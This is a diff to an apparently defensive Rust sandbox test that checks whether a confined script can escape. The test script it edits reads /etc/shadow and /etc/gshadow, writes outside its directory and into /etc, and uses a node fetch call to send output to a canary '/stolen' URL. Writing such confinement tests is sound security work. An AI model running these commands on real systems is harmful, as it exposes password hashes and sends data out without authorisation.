@@ -138,7 +138,7 @@ async fn what_a_script_may_do_ends_at_the_walls() {
     let outside = tempfile::tempdir().unwrap();
     let there = outside.path().display();
     let script = format!(
-        "(cat /root/.bashrc /etc/shadow; touch {there}/out; echo x > /etc/roadstead-out; \
+        "(cat /etc/gshadow /etc/shadow; touch {there}/out; echo x > /etc/roadstead-out; \
          node -e \"fetch('{}/stolen').catch(() => 0)\") > said 2>&1; true",
         canary.url()
     );
